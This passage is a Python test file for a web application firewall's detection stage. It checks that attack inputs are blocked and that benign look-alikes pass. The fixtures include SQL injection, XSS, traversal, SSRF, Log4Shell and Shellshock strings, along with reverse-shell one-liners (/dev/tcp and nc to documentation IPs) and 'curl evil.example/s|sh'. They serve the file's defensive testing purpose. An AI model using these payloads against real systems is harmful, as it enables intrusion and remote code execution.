        if not reported:
            assert found == []
            continue
        assert [(f.rule, f.category) for f in found] == [("model", Category.SQLI)]
        assert found[0].evidence == "(price > 0 and published = 1)"



@pytest.mark.parametrize(
    ("name", "flagged"),
    [("[2][0][7][0][55][3]", False), ("[0][1][name]", False), ("[0][1]<script>alert(1)</script>", True),
     ("[0][q' union select password from users--]", True)],
)
def test_a_form_name_that_only_opens_like_json_loses_its_indexes(name: str, flagged: bool) -> None:
    """Nested PHP-style indexes ("[2][0][7]") are not JSON; they are stripped as in "a[2][0]", and
    what is left of the name is read."""
    from urllib.parse import quote

    headers = [*BROWSER, ("content-type", "application/x-www-form-urlencoded")]
    findings = stage().findings(request("POST", "/form", headers=headers, body=f"{quote(name)}=1".encode()))
    assert bool(blocking(findings)) is flagged


@pytest.mark.parametrize(
    ("header", "value", "blocked"),
    [("accept", "text/html;q=0.9,text/plain;q=0.8,ima>", False),
     ("content-type", "multipart/form-data; boundary=----x", False),
     ("accept-language", "en-US,en;q=0.5", False),
     ("x-custom", "text/html;q=0.9,text/plain;q=0.8,ima>", True),
     ("accept", "text/html<script>alert(1)</script>", True)],
)
def test_the_model_alone_does_not_block_a_media_type_list(header: str, value: str, blocked: bool) -> None:
    """A list of media types or language tags has a grammar; a cut or odd one is not an attack
    unless the analysers see one in it (the model only raises their evidence there)."""
    stage = DetectionStage(DetectionSettings(), _FixedModel(0.0, xss=0.99))  # type: ignore[arg-type]
    headers = [("host", "shop.example"), (header, value)]
    found = blocking(stage.findings(request(headers=headers)))
    assert (found.get(f"header.{header}") is Category.XSS) is blocked


def _json_leaf_finding(model: object, key: str, value: object) -> Category | None:
    """The blocking category at ``body.<key>`` of a JSON post of ``{key: value}``, scored with ``model``."""
    stage = DetectionStage(DetectionSettings(), model)  # type: ignore[arg-type]
    body = json.dumps({key: value}).encode()
    headers = [("host", "shop.example"), ("content-type", "application/json")]
    return blocking(stage.findings(request("POST", "/api", headers=headers, body=body))).get(f"body.{key}")


@pytest.mark.parametrize(("value", "blocked"), [("<svg:svg", False), ("<META", False), ("<iframe", False),
                                                ("<svg:svg onload=alert(1)>", True), ("<meta x", True),
                                                ("<script>", True)])
def test_a_value_that_is_one_inert_tag_token_is_not_the_models(value: str, blocked: bool) -> None:
    """The tag names of a session-replay DOM capture are data about a page; a tag with anything
    after its name is read by the model as before."""
    assert (_json_leaf_finding(_FixedModel(0.0, xss=0.99), "node", value) is Category.XSS) is blocked


@pytest.mark.parametrize("spelling", ["%25ud800", "%25uDC00", "%5Cud800", "%5Cu%7Bdfff%7D", "%f0%8d%a0%80"])
def test_a_surrogate_half_in_any_spelling_does_not_stop_inspection(spelling: str) -> None:
    """"%uD800" names half of a UTF-16 pair, which is no character: it reads as U+FFFD, and the
    rest of the value (and of the request) is inspected as usual instead of the stage failing."""
    view = request(query=f"q={spelling}%27+or+1%3D1--&n=1", headers=[*BROWSER, ("x-trace", spelling.replace("%25", "%"))])
    assert blocking(stage().findings(view)) == {"query.q": Category.SQLI}


@pytest.mark.parametrize(
    ("query", "blocked"),
    [("client_id=app&redirect_uri=http%3A%2F%2F127.0.0.1%3A8080%2Fcallback", False),
     ("next=https%3A%2F%2Fsso.example%2Fauthorize%3Fredirect_uri%3Dhttp%3A%2F%2Flocalhost%3A3000%2Fcb", False),
     ("redirect_uri=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", True),
     ("redirect_uri=http%3A%2F%2F127.0.0.1%3A6379%2F&state=xyz", True),  # Redis' port: no app listens there
     ("next=https%3A%2F%2Fsso.example%2Fauthorize%3Fredirect_uri%3Dhttp%3A%2F%2Flocalhost%3A2375%2Fcontainers", True),
     ("url=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin", True)],
)
def test_a_loopback_redirect_uri_is_where_a_browser_goes(shipped_model, query: str, blocked: bool) -> None:  # type: ignore[no-untyped-def]
    """RFC 8252: a native app's OAuth redirect listens on 127.0.0.1; the server fetches nothing
    there (a metadata address is still flagged, and the same loopback URL in a "url" is SSRF)."""
    findings = DetectionStage(DetectionSettings(), shipped_model).findings(request(query=query))
    assert bool(blocking(findings)) is blocked


@pytest.mark.parametrize(
    ("uris", "blocked"),
    [(["https://partners.example/cb", "http://localhost:5173/auth/callback"], False),
     (["https://partners.example/cb", "http://127.0.0.1:6379/"], True)],
)
def test_an_oauth_clients_registered_redirect_uris(shipped_model, uris: list[str], blocked: bool) -> None:  # type: ignore[no-untyped-def]
    """A client registration (RFC 7591) lists its redirect URIs, a developer's loopback one among them."""
    body = json.dumps({"client_name": "Partner portal", "redirect_uris": uris}).encode()
    headers = [*BROWSER, ("content-type", "application/json")]
    findings = DetectionStage(DetectionSettings(), shipped_model).findings(request("PUT", "/api/clients/7", headers=headers, body=body))
    assert bool(blocking(findings)) is blocked, findings


def test_percent_encoded_json_in_a_cookie_is_read_leaf_by_leaf() -> None:
    """Scripts write JSON into a cookie percent-encoded; the application decodes and parses it."""
    attack = "state=%7B%22id%22%3A%221%20or%201%3D1%22%7D"
    headers = [(k, v) for k, v in BROWSER if k != "cookie"] + [("cookie", attack)]
    assert blocking(stage().findings(request(headers=headers))) == {"cookie.state.id": Category.SQLI}
    ordinary = "state=%7B%22id%22%3A%2242%22%2C%22tags%22%3A%5B%22a%20b%22%5D%7D; broken=%7Bnot%20json"
    headers = [(k, v) for k, v in BROWSER if k != "cookie"] + [("cookie", ordinary)]
    assert blocking(stage().findings(request(headers=headers))) == {}


@pytest.mark.parametrize(("value", "blocked"), [("`", False), ("'", False), ("a'", True), ("1'", True)])
def test_the_model_alone_does_not_block_one_character(value: str, blocked: bool) -> None:
    """A keyboard-layout map sends "`", "'" and ";" as values: one character has no grammar."""
    assert (_json_leaf_finding(_FixedModel(0.99), "key", value) is Category.SQLI) is blocked


@pytest.mark.parametrize(("value", "blocked"), [(":'(", False), (":-(", False), (";(", False), ("(:", False),
                                                ("'(", True), ("x'(", True)])
def test_the_model_alone_does_not_block_an_emoticon(value: str, blocked: bool) -> None:
    """A reaction or a chat message of one emoticon: its quote and parenthesis break no string."""
    assert (_json_leaf_finding(_FixedModel(0.99), "message", value) is Category.SQLI) is blocked


@pytest.mark.parametrize(("value", "blocked"), [(":'(", False), (";(", False), ("'(", True)])
def test_an_emoticon_in_an_encoded_cookie_is_judged_decoded(value: str, blocked: bool) -> None:
    import urllib.parse

    stage = DetectionStage(DetectionSettings(), _FixedModel(0.99))  # type: ignore[arg-type]
    cookie = ("cookie", "mood=" + urllib.parse.quote(value, safe=""))
    found = blocking(stage.findings(request(headers=[("host", "shop.example"), cookie])))
    assert (found.get("cookie.mood") is Category.SQLI) is blocked, found


@pytest.mark.parametrize(("value", "blocked"), [("'yes' or 'no'", False), ("Is it 'on' or 'off'?", False),
                                                ("it's either \"red\" or \"blue\"", False),
                                                ("'yes' or 1", True), ("'a'='a' or 'b'", True)])
def test_the_model_alone_does_not_block_quoted_alternatives(value: str, blocked: bool) -> None:
    """Quoted words offered as a choice compare nothing: a question, not a tautology."""
    assert (_json_leaf_finding(_FixedModel(0.99), "q", value) is Category.SQLI) is blocked


class _FixedTraversalModel(_FixedModel):
    categories = (Category.TRAVERSAL,)  # type: ignore[assignment]
    thresholds = {Category.TRAVERSAL: 0.5}  # type: ignore[assignment]

    def predict_proba_normalized(self, views: list[object]):  # type: ignore[no-untyped-def]
        import numpy as np

        return np.array([[self.sqli]] * len(views))


@pytest.mark.parametrize(("value", "blocked"), [("C:\\Windows\\System32\\smartscreen.exe", False),
                                                ("..\\..\\windows\\win.ini", True)])
def test_the_model_alone_does_not_block_a_path(value: str, blocked: bool) -> None:
    """Telemetry names absolute paths; traversal is what the path analyser sees (the model raises it)."""
    assert (_json_leaf_finding(_FixedTraversalModel(0.99), "path", value) is Category.TRAVERSAL) is blocked


def test_the_model_alone_does_not_block_xss_on_rich_text() -> None:
    """A model certain of XSS does not block on its own markup the HTML analyser read whole as rich
    text (`html.rich_text`: links to web pages, images, tables, no handler or script URI); the
    same markup with a handler, a script URI or a break out of an attribute still blocks."""
    from detector_tables import load_table

    model = _FixedModel(0.0, xss=1.0)
    table = load_table("rich_text")
    assert len(table["rich_text"]) >= 10
    for value in table["rich_text"]:
        assert _json_leaf_finding(model, "comment", value) is None, value
    for value in table["not_rich_text"]:
        assert _json_leaf_finding(model, "comment", value) is Category.XSS, value


@pytest.mark.parametrize(("value", "blocked"), [
    ("javascript: void(0)", False), ("javascript:void(0);", False), ("javascript:;", False),
    ("JavaScript:Void(0)", False), ("javascript:%20void(0)", False),
    ("javascript: void(0); alert(1)", True), ("javascript: name", True), ("javascript:foo()", True),
])
def test_the_model_alone_does_not_block_xss_on_a_no_op_link(value: str, blocked: bool) -> None:
    """Analytics beacons report the href of links a page's script handles ("javascript: void(0)");
    a model certain of XSS does not block that alone, but anything the link would run still does."""
    model = _FixedModel(0.0, xss=1.0)
    assert (_json_leaf_finding(model, "href", value) is Category.XSS) is blocked


@pytest.mark.parametrize(
    ("query", "category"),
    [("q=&#60&#115&#118&#103&#32&#111&#110&#108&#111&#97&#100&#61&#97&#108&#101&#114&#116&#40&#49&#41&#62", Category.XSS),
     ("q=&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;", Category.XSS),
     ("q=&#46;&#46;&#47;&#46;&#46;&#47;&#46;&#46;&#47;etc/passwd", Category.TRAVERSAL),
     ("user=*)(&(objectClass=*)", Category.LDAPI), ("user=admin))(&(1=1", Category.LDAPI),
     ("q='&'", Category.SQLI), ("q='&&1=1%23", Category.SQLI), ("q=&%20set%20/p=x%3Cnul", Category.CMDI), ("q=&%20echo%20%CD%", Category.CMDI),
     ("q=&lt;!--%23exec%20cmd=%22ls%22--&gt;", Category.CMDI)],
)
def test_any_payload_cut_by_raw_ampersands_is_read_whole(query: str, category: Category) -> None:
    """A payload sent unencoded (an HTTP client quotes only what a URL cannot hold) is cut at
    every ``&``: entities become nameless pieces, ``(objectClass=*)`` a piece with a name no
    form builder writes. Read whole, as the application that gets the raw text reads it."""
    assert category in blocking(stage().findings(request(path="/s", query=query))).values()
    headers = [("host", "shop.example"), ("content-type", "application/x-www-form-urlencoded")]
    body = query.encode()
    assert category in blocking(stage().findings(request("POST", "/s", headers=headers, body=body))).values()


@pytest.mark.parametrize(
    "query",
    ["a=1&ids[]=2&ids[]=3", "a=1&&2=3", "p=1&&10=20&x=y", "q=fish%20&%20chips", "name=AT&T", "q=Tom%27s%20&%20Jerry%27s", "q=5%20&lt;%206%20&amp;%207",
     "note=Barnes%20&%20Noble%20(NYC)&x=1", "q=salt%20&%20pepper;%20oil", "q=R&D%20(2024)", "q=a&b=(c)",
     "q=&copy;%202024", "q=caf&eacute;", "q=shoes&amp;size=9"],
)
def test_prose_cut_by_raw_ampersands_passes(query: str) -> None:
    assert blocking(stage().findings(request(path="/s", query=query))) == {}


@pytest.mark.parametrize(
    ("url", "category"),
    [("/api/items/c:/inetpub/logs/LogFiles/W3SVC1/u_ex240101.log", Category.TRAVERSAL),
     ("/api/items/C:/xampp/apache/conf/httpd.conf", Category.TRAVERSAL),
     ("/api/items/x;/b??/ba?h%20-c%20id", Category.CMDI), ("/api/items//e??/p?ss??", Category.TRAVERSAL)],
)
def test_a_path_cut_by_its_raw_slashes_or_question_marks_is_read_whole(url: str, category: Category) -> None:
    """A payload sent in the path unencoded: ``c:/...`` becomes segments, a glob's ``?`` the
    query's start. From the drive letter (or with its query) it is one value again."""
    path, _, query = url.partition("?")
    assert category in blocking(stage().findings(request(path=path, query=query))).values()


@pytest.mark.parametrize(
    "url",
    ["/lzdmod/loader/5.0.3/??index.js", "/g/??/sd/baxia/2.5.13/baxiaCommon.js", "/g/??a/b.js,c/d.js",
     "/docs/c:/readme", "/wiki/A:B/c", "/search??q"],
)
def test_combo_urls_and_colons_in_a_path_pass(url: str) -> None:
    path, _, query = url.partition("?")
    assert blocking(stage().findings(request(path=path, query=query))) == {}


def test_a_value_cut_short_by_a_nul_is_text() -> None:
    assert blocking(stage().findings(request(path="/s", query="f=../../../etc/passwd%00")))
    assert blocking(stage().findings(request(path="/s", query="u=admin%27%20or%201=1--%00")))


POLYMORPHIC_TYPES = [
    # a platform or gadget-library class named to a polymorphic deserialiser's type key
    ({"@type": "java.lang.AutoCloseable", "x": {"@type": "com.mysql.jdbc.JDBC4Connection"}}, True),
    ({"@type": "Lcom.sun.rowset.JdbcRowSetImpl;", "dataSourceName": "x"}, True),
    ({"@type": "[org.example.Foo"}, True),
    ({"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0"}, True),
    ({"__type": "System.Web.Security.RolePrincipal, System.Web"}, True),
    # an application's own types, collections, schema.org and protobuf type URLs
    ({"@class": "com.shop.model.Order", "id": 1}, False),
    ({"$type": "MyApp.Models.Order, MyApp", "id": 1}, False),
    ({"$type": "System.Collections.Generic.List`1[[MyApp.Foo, MyApp]], mscorlib"}, False),
    ({"@type": "Product", "name": "x"}, False),
    ({"@type": "type.googleapis.com/google.rpc.ErrorInfo"}, False),
    ({"type": "org.apache.kafka.Event"}, False),
]


@pytest.mark.parametrize(("document", "flagged"), POLYMORPHIC_TYPES)
def test_gadget_class_under_a_polymorphic_type_key(document: dict, flagged: bool) -> None:
    body = json.dumps(document).encode()
    found = stage().findings(request("POST", "/api/items", headers=[("content-type", "application/json")], body=body))
    rules = {f.rule for f in found if f.score >= 0.5}
    assert ("ssti.polymorphic-type" in rules) is flagged, found


@pytest.mark.parametrize(
    ("header", "value", "flagged"),
    [
        ("cache-control", "${jndi:ldap://evil.example/a}", True),
        ("if-modified-since", "() { :; }; /bin/id", True),
        ("accept-encoding", "gzip$(curl evil.example/s|sh)", True),
        ("dnt", "${${lower:j}ndi:rmi://evil.example/a}", True),
        # the headers' own grammar stays unread
        ("cache-control", "max-age=0, no-cache", False),
        ("if-none-match", 'W/"33a64df551425fcc55e4d42a148795d9f25f89d4"', False),
        ("if-none-match", '"abc", W/"def", "x-1"', False),
        ("if-match", "*", False),
        # an entity tag no cache writes (blanks, a quote inside): what an application may look up
        ("if-none-match", "\"' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- -\"", True),
        ("if-modified-since", "Wed, 21 Oct 2015 07:28:00 GMT", False),
        ("accept-encoding", "gzip, deflate, br, zstd", False),
    ],
)
def test_structural_header_holding_a_lookup_or_substitution_is_read(header: str, value: str, flagged: bool) -> None:
    found = blocking(stage().findings(request(headers=[*BROWSER, (header, value)])))
    assert (f"header.{header}" in found) is flagged, found


@pytest.mark.parametrize(
    ("credentials", "flagged"),
    [
        ("${jndi:ldap://evil.example/a}:x", True),
        ("() { :; }; /bin/id:x", True),
        # a password's symbols are its own business
        ("admin:p;id|x`y`", False),
        ("admin:Pa$$w0rd()", False),
        ("alice:P@ss'#word;", False),
        # a user name that breaks out of the login's query
        ("admin' --:letmein", True),
        ("root'#:pass123", True),
        ("o'brien:hunter2", False),
        # a user name that a device's script hands to a shell
        ("& ping -n 10 127.0.0.1 &:x", True),
        ("; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1:x", True),
        ("at&t-support:hunter2", False),
        # a password with words: what the analysers are sure of is read, a passphrase passes
        ("admin:x' OR EXISTS(SELECT * FROM users WHERE username='admin')--", True),
        ("admin:x$(rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.55 1234 >/tmp/f)", True),
        ("admin:joLlTm; sleep 10 #", True),
        ("alice:correct horse battery staple", False),
        ("bob:my cat's name is Tom & Jerry; lol", False),
        ("carol:select the best one (2024)!", False),
    ],
)
def test_basic_credentials_read_for_lookups_and_function_definitions(credentials: str, flagged: bool) -> None:
    import base64

    token = base64.b64encode(credentials.encode()).decode()
    found = blocking(stage().findings(request(headers=[*BROWSER, ("authorization", "Basic " + token)])))
    assert ("header.authorization" in found) is flagged, found


def test_percent_encoded_header_line_in_a_body_is_not_weakened() -> None:
    """A break typed into a textarea arrives decoded; one still written "%0d%0a" after the body's
    own decoding was written for a header the value is copied into."""
    headers = [("host", "shop.example"), ("content-type", "application/x-www-form-urlencoded")]
    typed = b"note=Dear%20team%0D%0ALocation:%20Berlin%20office"
    assert blocking(stage().findings(request("POST", "/contact", headers=headers, body=typed))) == {}
    for injected in (b"lang=en%250d%250aCache-Control:%20public", b"lang=x%25E5%2598%258A%25E5%2598%258DHeader-Test:%20x"):
        found = blocking(stage().findings(request("POST", "/contact", headers=headers, body=injected)))
        assert found.get("body.lang") is Category.CRLF, injected


def test_a_label_below_the_log_threshold_is_no_evidence_for_the_model() -> None:
    """An analyser's reading below the log threshold ("order by date": a sort label, 0.15) is not
    weak evidence the model may raise: the model is judged there as it is alone (a block needs
    ``model_alone``), while a reading at or above the log threshold is raised as before."""
    sure = 0.99   # above model_alone (0.95): blocks alone
    unsure = 0.9  # maps above the block threshold, below model_alone
    label = request(path="/api/search", query="sort=order+by+date", headers=[])
    assert blocking(DetectionStage(DetectionSettings(), _FixedModel(unsure)).findings(label)) == {}  # type: ignore[arg-type]
    assert blocking(DetectionStage(DetectionSettings(), _FixedModel(sure)).findings(label)) == {"query.sort": Category.SQLI}  # type: ignore[arg-type]
    weak = request(path="/api/search", query="q=results+having+p%3C0.05", headers=[])  # sqli.clause 0.45: weak evidence
    found = DetectionStage(DetectionSettings(), _FixedModel(unsure)).findings(weak)  # type: ignore[arg-type]
    assert any(f.category is Category.SQLI and f.score >= 0.5 for f in found)


def test_a_python_traceback_quoting_sqlalchemy_passes() -> None:
    """A bug report with a traceback whose frame calls SQLAlchemy's ``select(Invoice)`` (no SQL
    sub-select opened without a blank: `apiward.detectors.sql`'s syntax rule)."""
    report = (
        "Seeing this on staging after the upgrade:\n```\nTraceback (most recent call last):\n"
        '  File "/app/worker/tasks.py", line 41, in process_batch\n'
        "    rows = session.execute(select(Invoice).where(Invoice.status == 'open')).scalars()\n"
        "sqlalchemy.exc.OperationalError: (psycopg2.OperationalError) server closed the connection unexpectedly\n```"
    )
    headers = [("content-type", "application/json")]
    body = json.dumps({"note": report}).encode()
    assert blocking(stage().findings(request("POST", "/issues", headers=headers, body=body))) == {}


@pytest.mark.parametrize(
    ("path", "query", "blocked"),
    [
        ("/%2577ebui_wsma_HTTP", "", True),  # Cisco IOS XE's web UI, its "w" encoded twice
        ("/search", "q=%2573%2563ript", True),
        ("/go", "url=https%3A%2F%2Fshop.example%2Fa%253Fb%253D1%2520c", False),  # a nested URL's reserved characters
        ("/sale", "q=50%2525%20off", False),
    ],
)
def test_a_letter_encoded_twice_in_the_url(path: str, query: str, blocked: bool) -> None:
    found = blocking(stage().findings(request(path=path, query=query)))
    assert (Category.PROTOCOL in found.values()) is blocked, found


@pytest.mark.parametrize(
    ("query", "blocked"),
    [
        ("q=%27%27%27", True),  # a run of quotes
        ("q=%27%09", True),  # the quote with the blank a wordlist line keeps
        ("q=%EF%BC%87", True),  # the full-width quote NFKC turns into one
        ("q=%27%22()%7B%7D%5B%5D%3C%3E%3B--%23%2F*", True),  # every breaking character, nothing else
        ("q=it%27s", False),
        ("q=%3A%27-)", False),  # an emoticon
        ("q=-----", False),
        ("q=%22%22", False),  # an empty JSON string
    ],
)
def test_quote_and_punctuation_probes(query: str, blocked: bool) -> None:
    found = blocking(stage().findings(request(query=query)))
    assert (Category.SQLI in found.values()) is blocked, found


@pytest.mark.parametrize(
    "body",
    [
        {"text": "\""},  # a chat message of one quote
        {"key": "'"},  # a key press
        {"csv": {"quoteChar": "'", "escape": "\\"}},  # a character setting
        {"layoutMap": [["Quote", "'"], ["Backslash", "\\"]]},  # a keyboard map's table
    ],
)
def test_a_quote_alone_in_a_json_leaf_is_no_probe(body: dict) -> None:
    headers = [*BROWSER, ("content-type", "application/json")]
    found = blocking(stage().findings(request("POST", "/api/messages", headers=headers, body=json.dumps(body).encode())))
    assert Category.SQLI not in found.values(), found


@pytest.mark.parametrize(
    ("query", "blocked"),
    [
        ('query { reviews(productId: 9, orderBy: "rating DESC, (CASE WHEN 1=1 THEN rating ELSE id END)") { id } }', True),
        ('query { user(id: "5\' union select password from users--") { email } }', True),
        ('query { products(first: 20, filter: {category: "shoes", search: "running shoes"}) { edges { node { id } } } }', False),
    ],
)
def test_a_graphql_documents_inline_arguments_are_judged(query: str, blocked: bool) -> None:
    body = json.dumps({"query": query, "variables": {}}).encode()
    found = blocking(stage().findings(request("POST", "/graphql", headers=[("content-type", "application/json")], body=body)))
    assert (Category.SQLI in found.values()) is blocked, found


@pytest.mark.parametrize(
    ("cookie", "blocked"),
    [
        ("TrackingId=tBT6alTNwiOWmUMO'", True),  # a tracking token with the SQL error probe appended
        ("TrackingId=tBT6alTNwiOWmUMO%27", True),
        ("TrackingId=tBT6alTNwiOWmUMO", False),
        ("last_search=students'", False),  # a plural possessive
        ("since=2024-05-01'", False),
    ],
)
def test_a_token_with_a_quote_appended_is_the_error_probe(cookie: str, blocked: bool) -> None:
    headers = [(k, v) for k, v in BROWSER if k != "cookie"] + [("cookie", cookie)]
    found = blocking(stage().findings(request(headers=headers)))
    assert (Category.SQLI in found.values()) is blocked, found


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),  # Safari's
        ("accept", "application/vnd.api+json; version=2"),
        ("accept-language", "de-CH,de;q=0.9,en-US;q=0.8,en;q=0.7"),
        ("content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
    ],
)
def test_a_well_formed_media_type_or_language_list_has_no_finding(name: str, value: str) -> None:
    headers = [(k, v) for k, v in BROWSER if k != name] + [(name, value)]
    assert not [f for f in stage().findings(request(headers=headers)) if f.location == f"header.{name}"]


@pytest.mark.parametrize(
    ("header", "value", "flagged"),
    [
        ("host", "169.254.169.254", True),
        ("host", "169.254.169.254:80", True),
        ("host", "0xa9fea9fe", True),  # the same address in hex
        ("host", "[fd00:ec2::254]", True),
        ("host", "metadata.google.internal", True),
        ("x-forwarded-host", "169.254.169.254", True),
        # a service behind the gateway may be called "metadata"; an internal or loopback host is no metadata service
        ("host", "metadata:8080", False),
        ("host", "127.0.0.1:8080", False),
        ("x-forwarded-host", "10.0.0.5:8443", False),
        ("host", "shop.example.com", False),
    ],
)
def test_a_host_header_naming_a_metadata_service_is_ssrf(header: str, value: str, flagged: bool) -> None:
    headers = [(name, v) for name, v in BROWSER if name != header] + [(header, value)]
    found = blocking(stage().findings(request("GET", "/latest/meta-data/", headers=headers)))
    assert (found.get(f"header.{header}") is Category.SSRF) is flagged, found


def test_a_passports_machine_readable_zone_is_not_the_models(shipped_model) -> None:  # type: ignore[no-untyped-def]
    """Its "<" fillers are no shell redirections; an identity check posts it as read off the document."""
    stage = DetectionStage(DetectionSettings(), shipped_model)
    headers = [*BROWSER, ("content-type", "application/json")]
    mrz = "P<VNMNGUYEN<<THI<MINH<<<<<<<<<<<<<<<<<<<<<<<\nOF77695355VNM9608203F3206294<<<<<<<<<<<<<<06"
    found = blocking(stage.findings(request("POST", "/api/v2/documents/mrz", headers=headers, body=json.dumps({"mrz": mrz}).encode())))
    assert found == {}
    attack = json.dumps({"mrz": "P<GBR; cat </etc/passwd"}).encode()
    assert blocking(stage.findings(request("POST", "/api/v2/documents/mrz", headers=headers, body=attack))) != {}


@pytest.mark.parametrize(
    ("query", "blocked"),
    [
        ("where=1%3D1&outFields=*&f=json", False),  # ArcGIS's feature query for every feature
        ("q=1%3D1", True),
        ("where=1%3D1%20or%201%3D1&f=json", True),
        ("where=1%3D1%27%20union%20select%20password%20from%20users--", True),
    ],
)
def test_a_where_parameter_asking_for_all_rows(shipped_model, query: str, blocked: bool) -> None:  # type: ignore[no-untyped-def]
    stage = DetectionStage(DetectionSettings(), shipped_model)
    found = blocking(stage.findings(request(path="/arcgis/rest/services/Parcels/MapServer/0/query", query=query, headers=BROWSER)))
    assert bool(found) is blocked, found
